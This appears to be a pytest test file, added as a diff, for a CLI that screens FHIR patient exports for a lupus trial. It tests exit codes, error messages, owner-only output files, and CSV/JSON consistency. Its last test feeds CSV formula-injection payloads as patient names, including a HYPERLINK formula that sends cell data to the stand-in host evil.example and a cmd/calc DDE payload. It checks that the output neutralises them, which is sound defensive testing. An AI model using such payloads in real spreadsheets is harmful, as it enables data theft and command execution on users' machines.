@@ -1,0 +1,176 @@
+"""``fhir-cohort screen`` (``fhir_cohort.cli.main``): exit codes, messages and output files.
+
+cli.py documents: 0 done; 2 unusable input (missing path, unknown trial, bad date, bad
+trial definition), as a one-line message on stderr; outputs written owner-only (0600).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+import stat
+from collections import Counter
+from pathlib import Path
+
+import pytest
+from builders import condition, observation, patient, quantity, sle
+
+from fhir_cohort.cli import main
+from fhir_cohort.outputs.candidates import CSV_COLUMNS
+
+AS_OF = "2026-06-30"
+
+
+@pytest.fixture(scope="module")
+def cohort_run(tmp_path_factory) -> dict:
+    """One run over the bundled cohort (the default source), stdout captured."""
+    out = tmp_path_factory.mktemp("cli") / "out"
+    stdout, stderr = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
+        code = main(["screen", "--as-of", AS_OF, "--out", str(out)])
+    return {"code": code, "out": out, "stdout": stdout.getvalue()}
+
+
+def read_csv(path: Path) -> tuple[list[str], list[dict]]:
+    with path.open(newline="", encoding="utf-8") as stream:
+        reader = csv.DictReader(stream)
+        return list(reader.fieldnames or []), list(reader)
+
+
+def test_bundled_cohort_exits_0_and_prints_summary(cohort_run, expected):
+    assert cohort_run["code"] == 0
+    stdout = cohort_run["stdout"]
+    assert stdout.startswith(f"fhir-cohort: misle as of {AS_OF}\n")
+    statuses = Counter(case["status"] for case in expected["patients"].values())
+    assert (
+        "  ".join(
+            f"{s}: {statuses[s]}"
+            for s in ("eligible", "washout", "needs-review", "excluded", "not-a-candidate")
+        )
+        in stdout
+    )
+    assert f"wrote {cohort_run['out']}/candidates.json" in stdout
+
+
+@pytest.mark.parametrize("name", ["candidates.json", "candidates.csv"])
+def test_output_files_are_owner_only(cohort_run, name):
+    path = cohort_run["out"] / name
+    assert path.is_file()
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    # no temporary file left beside it
+    assert sorted(p.name for p in cohort_run["out"].iterdir()) == [
+        "candidates.csv",
+        "candidates.json",
+    ]
+
+
+def test_csv_agrees_with_json(cohort_run, expected):
+    data = json.loads((cohort_run["out"] / "candidates.json").read_text())
+    header, rows = read_csv(cohort_run["out"] / "candidates.csv")
+    assert header == list(CSV_COLUMNS)
+    listed = [p for p, case in expected["patients"].items() if case["status"] != "not-a-candidate"]
+    assert len(rows) == len(data["candidates"]) == len(listed)
+    for row, candidate in zip(rows[:3], data["candidates"][:3], strict=True):
+        assert row["patient_id"] == candidate["patient"]
+        assert row["status"] == candidate["status"]
+        assert int(row["rank"]) == candidate["rank"]
+        assert int(row["score"]) == candidate["score"]
+        assert row["as_of"] == data["as_of"] == AS_OF
+    assert rows[0]["rank"] == "1"
+    assert [int(r["rank"]) for r in rows] == list(range(1, len(rows) + 1))
+
+
+def test_missing_source_exits_2_with_one_line(tmp_path, capsys):
+    missing = tmp_path / "no-such-export"
+    code = main(["screen", "--source", str(missing), "--as-of", AS_OF, "--out", str(tmp_path)])
+    captured = capsys.readouterr()
+    assert code == 2
+    assert captured.out == ""
+    assert captured.err == f"fhir-cohort: error: source {missing} does not exist\n"
+    assert not (tmp_path / "candidates.json").exists()
+
+
+def test_unknown_trial_exits_2_with_one_line(tmp_path, capsys):
+    code = main(["screen", "--trial", "nosuchtrial", "--as-of", AS_OF, "--out", str(tmp_path)])
+    captured = capsys.readouterr()
+    assert code == 2
+    assert captured.err == (
+        "fhir-cohort: error: unknown trial 'nosuchtrial'; known trials: misle\n"
+    )
+    assert captured.out == ""
+
+
+def test_bad_trial_definition_exits_2(tmp_path, capsys):
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("trial: [unclosed\n")
+    code = main(["screen", "--trial", str(bad), "--as-of", AS_OF, "--out", str(tmp_path)])
+    captured = capsys.readouterr()
+    assert code == 2
+    assert captured.err.startswith(f"fhir-cohort: error: {bad}: not valid YAML")
+
+
+@pytest.mark.parametrize("bad", ["2026-13-01", "30/06/2026", "tomorrow"])
+def test_bad_as_of_exits_2_via_argparse(tmp_path, capsys, bad):
+    with pytest.raises(SystemExit) as raised:
+        main(["screen", "--as-of", bad, "--out", str(tmp_path)])
+    assert raised.value.code == 2
+    err = capsys.readouterr().err
+    assert err.strip().splitlines()[-1] == (
+        f"fhir-cohort screen: error: argument --as-of: --as-of must be a date as "
+        f"YYYY-MM-DD, not '{bad}'"
+    )
+
+
+def _small_export(folder: Path, name: str) -> Path:
+    """One listed lupus patient whose name comes from the data."""
+    folder.mkdir(parents=True, exist_ok=True)
+    resources = [
+        patient("p-name", name=[{"text": name}]),
+        sle(pid="p-name"),
+        condition("c-arthritis", "http://snomed.info/sct", "3723001", pid="p-name"),
+        observation(
+            "o-plt", "777-3", "2026-06-01", pid="p-name", valueQuantity=quantity(80, "K/uL")
+        ),
+    ]
+    path = folder / "export.ndjson"
+    path.write_text("".join(json.dumps(r) + "\n" for r in resources))
+    return path
+
+
+def test_quiet_prints_nothing_on_stdout(tmp_path, capsys):
+    source = _small_export(tmp_path / "src", "Quiet Person")
+    out = tmp_path / "out"
+    code = main(["screen", "--source", str(source), "--as-of", AS_OF, "--out", str(out), "--quiet"])
+    captured = capsys.readouterr()
+    assert code == 0
+    assert captured.out == ""
+    assert captured.err == ""
+    data = json.loads((out / "candidates.json").read_text())
+    assert [(c["patient"], c["status"]) for c in data["candidates"]] == [("p-name", "needs-review")]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+    ],
+)
+def test_csv_formula_in_patient_name_is_neutralised(tmp_path, name):
+    """A cell from the data that a spreadsheet would run as a formula is prefixed with '."""
+    source = _small_export(tmp_path / "src", name)
+    out = tmp_path / "out"
+    assert (
+        main(["screen", "--source", str(source), "--as-of", AS_OF, "--out", str(out), "--quiet"])
+        == 0
+    )
+    _, rows = read_csv(out / "candidates.csv")
+    assert [r["patient_id"] for r in rows] == ["p-name"]
+    assert rows[0]["name"] == "'" + name
+    # the JSON keeps the data as it was
+    data = json.loads((out / "candidates.json").read_text())
+    assert data["candidates"][0]["name"] == name
